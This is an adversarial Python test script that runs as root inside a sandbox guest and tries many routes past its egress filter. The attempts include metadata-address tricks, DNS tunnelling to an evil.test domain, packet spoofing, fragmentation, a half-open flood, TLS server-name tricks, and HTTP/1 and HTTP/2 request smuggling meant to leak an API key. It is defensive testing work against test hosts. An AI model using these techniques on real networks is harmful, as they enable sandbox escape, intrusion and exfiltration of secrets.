# SPDX-License-Identifier: Apache-2.0
# Runs as root in a guest: every way out that its author could think of, one function each. Prints one JSON line a function:
# {"name", "result"}. tests/sec/egress-adversary.mjs knows what each has to come to, on this side, in the ledger and at the servers.
import base64, json, os, socket, ssl, struct, subprocess, sys, threading, time, traceback

API, WEB = "api.egress.test", "web.egress.test"
SERVER = "10.199.77.10"
KEY = os.environ.get("API_KEY", "")
attempts, background = {}, set()

def attempt(fn):
    attempts[fn.__name__] = fn
    return fn

def slow(fn):
    background.add(fn.__name__)
    return attempt(fn)

# --- tools ---
def end_of(s, timeout=45):
    """What a connection comes to: reset, end, silence, or the bytes that came before."""
    s.settimeout(timeout)
    got = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: return got.decode("latin1")[:4000] or "end"
            got += d
    except socket.timeout: return got.decode("latin1")[:4000] or "silence"
    except OSError as e: return got.decode("latin1")[:4000] or ("reset" if e.errno == 104 else os.strerror(e.errno or 0))

def tcp(host, port, data=b"", timeout=45):
    try: s = socket.create_connection((host, port), timeout)
    except socket.timeout: return "no answer"
    except OSError as e: return "reset" if e.errno == 104 else "no such name" if isinstance(e, socket.gaierror) else os.strerror(e.errno or 0)
    with s:
        try: s.sendall(data)
        except OSError as e: return "reset" if e.errno in (32, 104) else os.strerror(e.errno)
        return end_of(s, timeout)

def context(verify=True, alpn=None):
    c = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
    if not verify: c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    if alpn: c.set_alpn_protocols(alpn)
    return c

def tls(name, data, sni=None, verify=True, alpn=None, address=None, timeout=45):
    try:
        s = socket.create_connection((address or name, 443), timeout)
        s = context(verify, alpn).wrap_socket(s, server_hostname=sni if sni is not None else name)
    except ssl.SSLCertVerificationError: return "certificate not trusted"
    except ssl.SSLError as e: return "TLS: " + (e.reason or "ended")
    except OSError as e: return "reset" if e.errno == 104 else type(e).__name__
    with s:
        s.sendall(data if isinstance(data, bytes) else data.encode("latin1"))
        return end_of(s, timeout)

def request(data): return tls(API, data)
def status(text): return text.split("\r\n")[0]

def dns_message(name, kind=1, ident=0x1234, flags=0x0100, tail=b""):
    labels = b"".join(bytes([len(l)]) + l.encode("latin1") for l in name.split("."))
    return struct.pack(">HHHHHH", ident, flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1) + tail

def dns(name, kind=1, server="100.64.0.1", over_tcp=False, message=None):
    m = message if message is not None else dns_message(name, kind)
    try:
        if over_tcp:
            with socket.create_connection((server, 53), 10) as s:
                s.sendall(struct.pack(">H", len(m)) + m)
                r = b""
                while len(r) < 2 or len(r) < 2 + struct.unpack(">H", r[:2])[0]:
                    d = s.recv(4096)
                    if not d: return "ended"
                    r += d
                r = r[2:]
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(5)
                s.connect((server, 53))
                s.send(m)
                r = s.recv(4096)
    except socket.timeout: return "silence"
    except OSError as e: return os.strerror(e.errno or 0)
    code, answers = r[3] & 15, struct.unpack(">H", r[6:8])[0]
    word = {0: "ok", 1: "malformed", 2: "failed", 3: "no such name", 4: "not implemented", 5: "refused"}.get(code, str(code))
    if not code and answers and kind == 1: return ".".join(map(str, r[-4:] if r[-15:-11] != b"\0\0\x29" else r[-15:-11]))
    return f"{word} {answers}"

def checksum(b):
    b += b"\0" * (len(b) % 2)
    s = sum(struct.unpack(f">{len(b) // 2}H", b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def ip4(src, dst, proto, payload, ident=1, frag=0):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, frag, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack(">H", checksum(h)) + h[12:] + payload

def tcp_segment(src, dst, sport, dport, flags=2, data=b""):
    h = struct.pack(">HHIIBBHHH", sport, dport, 1000, 0, 0x50, flags, 64240, 0, 0) + data
    return h[:16] + struct.pack(">H", checksum(socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(">BBH", 0, 6, len(h)) + h)) + h[18:]

def mac(dev): return bytes.fromhex(open(f"/sys/class/net/{dev}/address").read().strip().replace(":", ""))

def frame(dev, payload, kind=0x0800, src=None, dst=None):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((dev, 0))
        s.send((dst or b"\xff" * 6) + (src or mac(dev)) + struct.pack(">H", kind) + payload)

def gateway_mac():
    dns(API)
    for line in open("/proc/net/arp"):
        f = line.split()
        if f[0] == "100.64.0.1" and f[5] == "eth0": return bytes.fromhex(f[3].replace(":", ""))
    return b"\xff" * 6

def answers(match, seconds, send):
    """Sends, and tells which frames that `match` came back within some seconds."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.settimeout(0.2)
        send()
        end, n = time.time() + seconds, 0
        while time.time() < end:
            try: d, a = s.recvfrom(4096)
            except socket.timeout: continue
            if a[2] != socket.PACKET_OUTGOING and match(d): n += 1
        return n

def sh(cmd): return subprocess.run(cmd, shell=True, capture_output=True, text=True)

# --- addresses ---
@attempt
def literal_address_of_an_allowed_name(): return tcp(SERVER, 443)
@attempt
def literal_address_with_an_allowed_server_name(): return tls(API, "GET / HTTP/1.1\r\nHost: api.egress.test\r\n\r\n", address=SERVER)
@attempt
def metadata_address(): return status(tcp("169.254.169.254", 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"))
@attempt
def metadata_address_decimal(): return status(tcp("2852039166", 80, b"GET / HTTP/1.1\r\n\r\n"))
@attempt
def metadata_address_octal(): return status(tcp("0251.0376.0251.0376", 80, b"GET / HTTP/1.1\r\n\r\n"))
@attempt
def metadata_address_hexadecimal(): return status(tcp("0xa9fea9fe", 80, b"GET / HTTP/1.1\r\n\r\n"))
@attempt
def metadata_address_short(): return status(tcp("169.254.43518", 80, b"GET / HTTP/1.1\r\n\r\n"))
@attempt
def metadata_address_mapped():
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.settimeout(10)
            s.connect(("::ffff:169.254.169.254", 80))
            s.sendall(b"GET / HTTP/1.1\r\n\r\n")
            return status(end_of(s))
    except OSError as e: return os.strerror(e.errno or 0)
@attempt
def metadata_address_as_a_name(): return dns("2852039166") + "; " + dns("0xa9fea9fe") + "; " + dns("169.254.169.254")
@attempt
def metadata_address_of_ipv6():
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.settimeout(3)
            s.connect(("fd00:ec2::254", 80))
            return "connected"
    except OSError as e: return "no"
@attempt
def the_gateway_itself(): return ", ".join(tcp("100.64.0.1", p, b"x") for p in (22, 8443, 15001))
@attempt
def the_host_by_its_address(): return tcp("10.199.77.1", 22, b"x")
@attempt
def names_of_forbidden_addresses():
    return {n: tcp(f"{n}.egress.test", 8080, b"x") for n in ("meta", "loop", "private", "host", "fake", "cgnat")}
@slow
def rebinding():
    first = tcp("rebind.egress.test", 81, b"")
    time.sleep(6)
    return [first, tcp("rebind.egress.test", 7777, b""), (time.sleep(6), tcp("rebind.egress.test", 81, b""))[1]]

# --- names ---
@attempt
def tunnel_in_refused_names():
    return sorted({dns(f"{base64.b32encode(os.urandom(20)).decode().lower()}.{i}.evil.test", k) for i in range(8) for k in (1, 16, 28, 5)})
@attempt
def tunnel_in_allowed_names():
    return sorted({dns(f"{base64.b32encode(os.urandom(20)).decode().lower()}.tunnel.egress.test", k) for k in (16, 28, 5, 15, 255, 10)})
@attempt
def another_resolver(): return dns("stolen-data.evil.test", server="8.8.8.8") + "; " + dns("stolen-data.evil.test", server="10.199.77.2")
@attempt
def another_resolver_over_tcp(): return dns("stolen-tcp-data.evil.test", server="8.8.8.8", over_tcp=True)
@attempt
def dns_over_tls(): return tcp("8.8.8.8", 853, b"x")
@attempt
def dns_over_https(): return tcp("8.8.8.8", 443, b"x") + "; " + tcp("dns.google", 443)
@attempt
def dns_on_another_port():
    m = dns_message("port-data.evil.test")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect(("10.199.77.2", 5353))
        try: s.send(m); s.send(m); return repr(s.recv(100))
        except socket.timeout: return "silence"
        except OSError as e: return "refused"
@attempt
def types_of_an_allowed_name():
    return {k: dns(API, k) for k in (1, 28, 65, 64, 255, 16)}
@attempt
def reverse():
    a = dns(API)
    back = ".".join(reversed(a.split("."))) + ".in-addr.arpa"
    return [dns(back, 12), dns("8.8.8.8.in-addr.arpa", 12), dns("254.169.254.169.in-addr.arpa", 12)]
@attempt
def malformed_questions():
    q = dns_message(API)
    bad = [b"", q[:11], q[:12] + b"\xc0\x0c" + q[-4:], q[:12] + b"\x3f" + b"a" * 10, q[:5] + b"\2" + q[6:], b"\xff" * 500,
           q[:2] + b"\x80" + q[3:], q[:2] + b"\x28" + q[3:], q[:12] + bytes([63]) + b"a" * 63 + bytes([63]) + b"b" * 63 + bytes([63]) + b"c" * 63 + bytes([63]) + b"d" * 63 + b"\0" + q[-4:]]
    for m in bad:
        for over in (False, True):
            try:
                if over:
                    with socket.create_connection(("100.64.0.1", 53), 5) as s: s.sendall(struct.pack(">H", len(m)) + m)
                else:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(m, ("100.64.0.1", 53))
            except OSError: pass
    return dns(API)

# --- below TCP ---
@attempt
def udp():
    out = []
    for port in (9, 443, 123, 31337):
        for last in (False, False, True): # so many refusals a second and no more, and others were refused before
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(2)
                s.connect(("10.199.77.14", port))
                try: s.send(b"x" * 100); s.send(b"x"); s.recv(10); out.append("answered")
                except socket.timeout:
                    if not last: continue
                    out.append("silence")
                except OSError: out.append("refused")
                break
    return sorted(set(out))
@attempt
def ping():
    echo = struct.pack(">BBHHH", 8, 0, 0, 7, 1) + b"x" * 32
    echo = echo[:2] + struct.pack(">H", checksum(echo)) + echo[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as s:
        s.settimeout(1.5)
        for to in ("10.199.77.10", "100.64.0.1", "8.8.8.8"): s.sendto(echo, (to, 0))
        try:
            while True:
                d = s.recv(2000)
                if d[20] == 0: return "answered"
        except OSError: return "silence"
@attempt
def other_protocols():
    for proto in (47, 50, 132, 41, 4, 2, 115):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, proto) as s:
            try: s.sendto(b"\0" * 64, ("10.199.77.14", 0))
            except OSError: pass
    return "sent"
@attempt
def spoofed_sources():
    g = gateway_mac()
    def send():
        for src in ("10.199.77.99", "100.64.0.1", "100.64.0.3", "127.0.0.1", "169.254.100.1", "169.254.100.2", "0.0.0.0", "255.255.255.255", "8.8.8.8"):
            frame("eth0", ip4(src, "10.199.77.14", 6, tcp_segment(src, "10.199.77.14", 4100, 31337)), dst=g)
            frame("eth0", ip4(src, "10.199.77.2", 17, struct.pack(">HHHH", 4101, 53, 8 + 40, 0) + dns_message("spoof-data.evil.test")[:40]), dst=g)
    return str(answers(lambda d: d[12:14] == b"\x08\0" and d[23] in (6, 17) and struct.unpack(">H", d[36:38])[0] in (4100, 4101), 1.5, send))
@attempt
def spoofed_hardware_address():
    g = gateway_mac()
    return str(answers(lambda d: d[12:14] == b"\x08\0" and d[23] == 6 and struct.unpack(">H", d[36:38])[0] == 4200, 1.5,
        lambda: frame("eth0", ip4("100.64.0.2", "10.199.77.14", 6, tcp_segment("100.64.0.2", "10.199.77.14", 4200, 31337)), src=b"\2nb\0\0\7", dst=g)))
@attempt
def ipv6():
    sh("sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0 net.ipv6.conf.mgmt0.disable_ipv6=0; ip -6 addr add fe80::2/64 dev eth0 nodad; ip -6 addr add fd00::2/64 dev eth0 nodad; ip -6 route add default via fe80::1 dev eth0")
    src, every = socket.inet_pton(socket.AF_INET6, "fe80::2"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    def icmp6(body):
        pseudo = src + every + struct.pack(">I", len(body)) + b"\0\0\0\x3a"
        c = checksum(pseudo + body)
        return struct.pack(">IHBB", 0x60000000, len(body), 58, 255) + src + every + body[:2] + struct.pack(">H", c) + body[4:]
    advert = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack(">BBBBIII", 3, 4, 64, 0xc0, 86400, 86400, 0) + socket.inet_pton(socket.AF_INET6, "fd00::")
    echo = struct.pack(">BBHHH", 128, 0, 0, 1, 1) + b"x" * 16
    def send():
        for dev in ("eth0", "mgmt0"):
            for body in (advert, echo): frame(dev, icmp6(body), 0x86dd, dst=b"\x33\x33\0\0\0\1")
    n = answers(lambda d: d[12:14] == b"\x86\xdd", 2, send)
    out = [str(n)]
    for a in ("fe80::1%eth0", "2001:4860:4860::8888", "::ffff:10.199.77.10"):
        try:
            with socket.socket(socket.AF_INET6) as s:
                s.settimeout(2)
                s.connect(socket.getaddrinfo(a, 443)[0][4])
                out.append(end_of(s, 2))
        except OSError as e: out.append("no")
    sh("sysctl -qw net.ipv6.conf.all.disable_ipv6=1")
    return out
@attempt
def other_routes():
    out = []
    sh("ip route add 10.199.77.0/24 via 169.254.100.1 dev mgmt0")
    out.append(tcp("10.199.77.10", 80, b"", 2))
    sh("ip route del 10.199.77.0/24; ip addr add 10.199.77.200/24 dev eth0")
    out.append(tcp("10.199.77.10", 80, b"", 2))
    sh("ip addr del 10.199.77.200/24 dev eth0; ip link add dummy0 type dummy; ip addr add 100.64.0.9/32 dev eth0")
    try:
        with socket.socket() as s:
            s.settimeout(2); s.bind(("100.64.0.9", 0)); s.connect(("10.199.77.10", 80)); out.append("connected from %s" % s.getsockname()[0])
    except OSError: out.append("no")
    sh("ip addr del 100.64.0.9/32 dev eth0")
    return out
@attempt
def other_interfaces():
    sh("ip link add link eth0 name vlan7 type vlan id 7; ip link add link eth0 name mac0 type macvlan; ip link set mac0 up")
    g = gateway_mac()
    def send():
        frame("eth0", struct.pack(">HH", 7, 0x0800) + ip4("100.64.0.2", "10.199.77.14", 6, tcp_segment("100.64.0.2", "10.199.77.14", 4300, 31337)), 0x8100, dst=g)
        frame("eth0", b"\x11\0\0\1\0\0\0\x16\0\x21" + ip4("100.64.0.2", "10.199.77.14", 6, tcp_segment("100.64.0.2", "10.199.77.14", 4300, 31337)), 0x8864, dst=g)
    n = answers(lambda d: len(d) > 38 and d[23] == 6 and struct.unpack(">H", d[36:38])[0] == 4300, 1.5, send)
    sh("ip link del vlan7; ip link del mac0")
    return str(n)
@attempt
def the_management_link():
    out = []
    for port in (22, 53, 80, 443, 1024, 15001):
        try:
            with socket.socket() as s:
                s.settimeout(0.7); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"mgmt0"); s.connect(("169.254.100.1", port)); out.append(f"connected {port}")
        except OSError: pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"mgmt0")
        try: s.sendto(dns_message(API), ("169.254.100.1", 53)); s.recv(100); out.append("DNS")
        except OSError: pass
    # The agent, from inside: as its host, with the host's address.
    try:
        with socket.create_connection(("169.254.100.2", 1024), 3) as s:
            s.sendall(b'{"service":"control","op":"hello"}\n')
            out.append("agent: " + end_of(s, 3))
    except OSError as e: out.append("agent: no")
    sh("ip addr add 169.254.100.1/32 dev lo")
    try:
        with socket.socket() as s:
            s.settimeout(2); s.bind(("169.254.100.1", 0)); s.connect(("169.254.100.2", 1024)); s.sendall(b'{"service":"control","op":"hello"}\n')
            out.append("agent as host: " + end_of(s, 3))
    except OSError as e: out.append("agent as host: no")
    sh("ip addr del 169.254.100.1/32 dev lo")
    return out
@attempt
def fragments():
    g = gateway_mac()
    seg = tcp_segment("100.64.0.2", "10.199.77.14", 4400, 31337)
    def send():
        frame("eth0", ip4("100.64.0.2", "10.199.77.14", 6, seg[:8], 77, 0x2000), dst=g)
        frame("eth0", ip4("100.64.0.2", "10.199.77.14", 6, seg[8:], 77, 0x0001), dst=g)
        # Overlapping: the second says another port.
        frame("eth0", ip4("100.64.0.2", "10.199.77.10", 6, seg[:16], 78, 0x2000), dst=g)
        frame("eth0", ip4("100.64.0.2", "10.199.77.10", 6, tcp_segment("100.64.0.2", "10.199.77.10", 4400, 443)[8:], 78, 0x0001), dst=g)
        for i in range(200): frame("eth0", ip4("100.64.0.2", "10.199.77.14", 17, b"x" * 8, 100 + i, 0x2000), dst=g)
        frame("eth0", ip4("100.64.0.2", "10.199.77.14", 1, b"x" * 8, 79, 0x3fff), dst=g)
    answers(lambda d: False, 0.5, send)
    return dns(API)
@attempt
def half_open_flood():
    g = gateway_mac()
    sh("command -v nft && nft add table ip f && nft add chain ip f o '{ type filter hook output priority 0; }' && nft add rule ip f o tcp flags rst drop")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        head = g + mac("eth0") + b"\x08\0"
        for i in range(3000): s.send(head + ip4("100.64.0.2", "10.199.77.14", 6, tcp_segment("100.64.0.2", "10.199.77.14", 10000 + i, 31337)))
    sh("command -v nft && nft delete table ip f")
    for _ in range(60):
        r = request("GET /after-the-flood HTTP/1.1\r\nHost: api.egress.test\r\nConnection: close\r\n\r\n")
        if "200 OK" in r: return "works"
        time.sleep(1)
    return r

# --- TLS ---
@slow
def guessed_synthetic_address(): return tcp("198.18.77.77", 443, b"x") + "; " + tcp("198.19.255.254", 80)[:12]
@attempt
def synthetic_address_of_another_sandbox():
    return [tcp(a, 443, b"x") for a in sys.argv[1].split(",")] if len(sys.argv) > 1 and sys.argv[1] else []
@attempt
def another_server_name(): return tls("other.egress.test", "GET / HTTP/1.1\r\nHost: api.egress.test\r\n\r\n", sni="api.egress.test", verify=False)
@attempt
def no_server_name():
    try:
        s = socket.create_connection(("other.egress.test", 443), 10)
        c = context(False); c.check_hostname = False
        c.wrap_socket(s)
        return "TLS"
    except ssl.SSLError as e: return "reset"
    except OSError as e: return "reset" if e.errno == 104 else type(e).__name__
@attempt
def no_tls(): return tcp("other.egress.test", 443, b"GET / HTTP/1.1\r\nHost: other.egress.test\r\n\r\n")
@slow
def malformed_hello(): return tcp("other.egress.test", 443, b"\x16\3\1\0\x30\1\0\0\x2c\3\3" + b"\xff" * 41)
@attempt
def server_name_with_an_end():
    # A server name that a C string would end early.
    name = b"other.egress.test\0.api.egress.test"
    ext = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(ext)) + ext
    hello = b"\1" + struct.pack(">I", len(body))[1:] + body
    return tcp("other.egress.test", 443, b"\x16\3\1" + struct.pack(">H", len(hello)) + hello)
@attempt
def encrypted_hello():
    # What is inside is only for the server that the outer name resolved to.
    name = b"other.egress.test"
    ech = b"\0\0\1\0\1\7\0\x20" + os.urandom(32) + struct.pack(">H", 64) + os.urandom(64)
    ext = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name + struct.pack(">HH", 0xfe0d, len(ech)) + ech
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(ext)) + ext
    hello = b"\1" + struct.pack(">I", len(body))[1:] + body
    r = tcp("other.egress.test", 443, b"\x16\3\1" + struct.pack(">H", len(hello)) + hello, 5)
    return "an alert of the server" if r[:1] == "\x15" else r
@slow
def trickled_hello():
    try:
        s = socket.create_connection(("other.egress.test", 443), 10)
        t = time.time()
        for b in b"\x16\3\1\2\0\1\0\1\xfc\3\3" + b"x" * 100:
            s.send(bytes([b])); time.sleep(0.5)
        return "for ever"
    except OSError: return "cut" if time.time() - t < 30 else "late"
@slow
def trickled_request():
    t = time.time()
    try:
        s = context().wrap_socket(socket.create_connection((API, 443), 10), server_hostname=API)
        s.settimeout(0.3)
        for i in range(10):
            s.send(b"G" if i == 0 else b"x"); time.sleep(0.3)
        return "held"
    except OSError: return "cut"

# --- HTTP ---
def smuggle(head, body=""): return status(request(head.replace("\n", "\r\n") + "\r\n\r\n" + body))
@attempt
def another_host(): return smuggle("GET /fronted HTTP/1.1\nHost: other.egress.test")
@attempt
def two_hosts(): return [smuggle("GET /h1 HTTP/1.1\nHost: api.egress.test\nHost: other.egress.test"), smuggle("GET /h2 HTTP/1.1\nHost: other.egress.test\nHost: api.egress.test"),
                         smuggle("GET /h3 HTTP/1.1\nhost: api.egress.test\n Host: x")]
@attempt
def no_host(): return [smuggle("GET /h4 HTTP/1.1\nX: y"), smuggle("GET /h5 HTTP/1.0"), smuggle("GET /h6 HTTP/1.1\nHost: ")]
@attempt
def host_with_a_port_and_others(): return [smuggle(f"GET /h7 HTTP/1.1\nHost: {h}") for h in ("api.egress.test:444", "api.egress.test@other.egress.test", "api.egress.test, other.egress.test", "api.egress.test\tother.egress.test", "api.egress.test.other.egress.test")]
@attempt
def absolute_form(): return [smuggle(f"GET {u} HTTP/1.1\nHost: api.egress.test") for u in ("http://other.egress.test/a1", "https://other.egress.test/a2", "//other.egress.test/a3", "https://api.egress.test@other.egress.test/a4")]
@attempt
def connect(): return smuggle("CONNECT other.egress.test:443 HTTP/1.1\nHost: other.egress.test") + "; " + smuggle("CONNECT api.egress.test:443 HTTP/1.1\nHost: api.egress.test")
@attempt
def trace(): return smuggle(f"TRACE / HTTP/1.1\nHost: api.egress.test\nX-Key: {KEY}")
@attempt
def cl_te(): return smuggle("POST /s1 HTTP/1.1\nHost: api.egress.test\nContent-Length: 6\nTransfer-Encoding: chunked", "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: other.egress.test\r\n\r\n")
@attempt
def te_cl(): return smuggle("POST /s2 HTTP/1.1\nHost: api.egress.test\nTransfer-Encoding: chunked\nContent-Length: 4", "5c\r\nGET /smuggled HTTP/1.1\r\nHost: other.egress.test\r\n\r\n0\r\n\r\n")
@attempt
def te_te(): return [smuggle(f"POST /s3 HTTP/1.1\nHost: api.egress.test\n{t}", "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: other.egress.test\r\n\r\n") for t in
    ("Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "X: y\n Transfer-Encoding: chunked", "Transfer-Encoding: chunked\nTransfer-Encoding: cow", "Transfer-Encoding:\x0bchunked")]
@attempt
def lengths(): return [smuggle(f"POST /s4 HTTP/1.1\nHost: api.egress.test\n{t}", "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n") for t in
    ("Content-Length: 1\nContent-Length: 2", "Content-Length: 1, 2", "Content-Length: +5", "Content-Length: 0x5", "Content-Length: -1", "Content-Length: 99999999999999999999")]
@attempt
def chunks(): return [smuggle("POST /s5 HTTP/1.1\nHost: api.egress.test\nTransfer-Encoding: chunked", b) for b in
    ("fffffffffffffffff\r\nx", "-1\r\nx", "0x5\r\nhello\r\n0\r\n\r\n", "5;\nhello\r\n0\r\n\r\n", "5\r\nhelloXX0\r\n\r\n")]
@attempt
def line_ends(): return [status(request(h)) for h in
    ("GET /l1 HTTP/1.1\nHost: api.egress.test\n\n", "GET /l2 HTTP/1.1\r\nHost: api.egress.test\r\nX: a\rHost: other.egress.test\r\n\r\n", "GET /l3 HTTP/1.1\r\nHost: api.egress.test\r\nX: a\0b\r\n\r\n", "GET /l4\tHTTP/1.1\r\nHost: api.egress.test\r\n\r\n",
     "GET /l5 HTTP/1.1\r\n Host: api.egress.test\r\n\r\n", "\r\n\r\nGET /l6 HTTP/9.9\r\nHost: api.egress.test\r\n\r\n")]
@attempt
def pipelined_to_another_host():
    return [l for l in request("GET /p1 HTTP/1.1\r\nHost: api.egress.test\r\n\r\nGET /p2 HTTP/1.1\r\nHost: other.egress.test\r\n\r\nGET /p3 HTTP/1.1\r\nHost: api.egress.test\r\n\r\n").split("\r\n") if l.startswith("HTTP/1.1")]
@attempt
def upgrade_to_h2c(): return smuggle("GET /u1 HTTP/1.1\nHost: api.egress.test\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA")
@attempt
def h2_preface_without_alpn(): return status(request("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
@attempt
def placeholder_to_another_host():
    return tls("other.egress.test", f"GET /elsewhere HTTP/1.1\r\nHost: other.egress.test\r\nX-Key: {KEY}\r\nConnection: close\r\n\r\n", verify=False)[:15]
@attempt
def placeholder_over_plain_http(): return status(tcp(WEB, 80, f"GET /plain HTTP/1.1\r\nHost: web.egress.test\r\nX-Key: {KEY}\r\nConnection: close\r\n\r\n".encode()))
@attempt
def placeholder_in_odd_places():
    return status(request(f"POST /odd?k={KEY} HTTP/1.1\r\nHost: api.egress.test\r\nUser-Agent: {KEY}\r\nReferer: https://x/{KEY}\r\nX-Forwarded-For: {KEY}\r\nContent-Length: {len(KEY)}\r\nConnection: close\r\n\r\n{KEY}"))
@attempt
def secrets_and_bad_certificates():
    return {n: status(tls(f"{n}.egress.test", f"GET /cert HTTP/1.1\r\nHost: {n}.egress.test\r\nX-Key: {KEY}\r\nConnection: close\r\n\r\n")) for n in ("expired", "selfsigned", "wrongname")}

# --- HTTP/2, by hand: what no client library sends ---
H2, H2_OTHER = "h2.egress.test", "h2other.egress.test"

def h2_frame(kind, flags, stream, data=b""): return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data
def h2_block(fields): return b"".join(b"\0" + bytes([len(k)]) + k.encode() + bytes([len(v)]) + v.encode() for k, v in fields)
def h2_get(path, authority=H2, more=(), scheme="https", method="GET"):
    return [(":method", method), (":scheme", scheme), (":authority", authority), (":path", path), *more]

def h2_connection(name=H2, sni=None, address=None, verify=True):
    s = context(verify, alpn=["h2"]).wrap_socket(socket.create_connection((address or name, 443), 45), server_hostname=sni or name)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
    return s

def h2_ends(s, streams):
    """What each stream comes to: the body of its answer (refusals say why there), or how it was ended."""
    s.settimeout(45)
    got, out, bodies = b"", {}, {}
    try:
        while len(out) < len(streams):
            d = s.recv(65536)
            if not d: break
            got += d
            while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
                n, kind, flags, stream = int.from_bytes(got[:3], "big"), got[3], got[4], int.from_bytes(got[5:9], "big")
                data, got = got[9:9 + n], got[9 + n:]
                if kind == 0: bodies[stream] = bodies.get(stream, b"") + data
                if kind == 4 and not flags & 1: s.sendall(h2_frame(4, 1, 0))
                if kind == 3: out.setdefault(stream, "stream reset")
                if kind == 7:
                    for i in streams: out.setdefault(i, "connection ended")
                if kind in (0, 1) and flags & 1: out.setdefault(stream, bodies.get(stream, b"").decode("latin1").strip())
    except OSError: pass
    return [out.get(i, "connection ended") for i in streams]

def h2_requests(blocks, **where):
    """One connection for all of them: a stream's fault is not the others'."""
    try: s = h2_connection(**where)
    except ssl.SSLError as e: return "TLS: " + (e.reason or "ended")
    except OSError as e: return "reset" if e.errno == 104 else type(e).__name__
    with s:
        for i, b in enumerate(blocks): s.sendall(h2_frame(1, 5, 2 * i + 1, h2_block(b)))
        return h2_ends(s, [2 * i + 1 for i in range(len(blocks))])

@attempt
def h2_works(): return [json.loads(r)["url"] for r in h2_requests([h2_get("/one"), h2_get("/two", more=[("x-key", KEY)])])]
@attempt
def h2_authority_of_another():
    # Fronting and coalescing: the certificate is good for both names, and one server has both.
    return h2_requests([h2_get("/c1", H2_OTHER), h2_get("/c2", H2 + ":444"), h2_get("/c3", "user@" + H2), h2_get("/c4", H2 + "."), h2_get("/c5", "web.egress.test"), h2_get("/after")])
@attempt
def h2_coalesced_by_server_name(): return h2_requests([h2_get("/c6", H2_OTHER)], name=H2, sni=H2_OTHER)
@attempt
def h2_coalesced_by_address(): return h2_requests([h2_get("/c7")], name=H2, address=H2_OTHER)
@attempt
def h2_two_authorities():
    return h2_requests([h2_get("/d1", more=[("host", H2_OTHER)]), h2_get("/d2")[:3] + [(":authority", H2_OTHER), (":path", "/d2")],
                        [(":method", "GET"), (":scheme", "https"), (":path", "/d3"), ("host", H2_OTHER)]])
@attempt
def h2_connect(): return h2_requests([[(":method", "CONNECT"), (":authority", H2_OTHER + ":443")], h2_get("/e1", more=[(":protocol", "websocket")], method="CONNECT")])
@attempt
def h2_scheme_and_path(): return h2_requests([h2_get("/f1", scheme="http"), h2_get("https://" + H2_OTHER + "/f2"), h2_get("f3"), h2_get("/f4 HTTP/1.1")])
@attempt
def h2_to_h1_smuggling():
    return h2_requests([h2_get("/g", more=[f]) for f in (("transfer-encoding", "chunked"), ("connection", "upgrade"), ("x", "y\r\nhost: " + H2_OTHER),
        ("x\r\nhost", "y"), ("content-length", "40"), ("Host", H2), ("x", "a\0b"))] + [h2_get("/after-g")])
@attempt
def h2_trailers():
    # A value in the answer's trailers, and a placeholder in the request's.
    s = h2_connection()
    with s:
        s.sendall(h2_frame(1, 4, 1, h2_block(h2_get("/trailer", method="POST", more=[("x-key", KEY), ("te", "trailers")]))) + h2_frame(0, 0, 1, b"body"))
        s.sendall(h2_frame(1, 5, 1, h2_block([("x-late", KEY)])))
        return h2_ends(s, [1])
@attempt
def h2_placeholder_to_another(): return json.loads(h2_requests([h2_get("/elsewhere-h2", H2_OTHER, [("x-key", KEY)])], name=H2_OTHER, verify=False)[0])["key"] == KEY

# --- what does not answer ---
@slow
def nobody_listens(): return tcp("refused.egress.test", 81)
@slow
def nobody_answers(): return tcp("hole.egress.test", 9999, b"", 40)
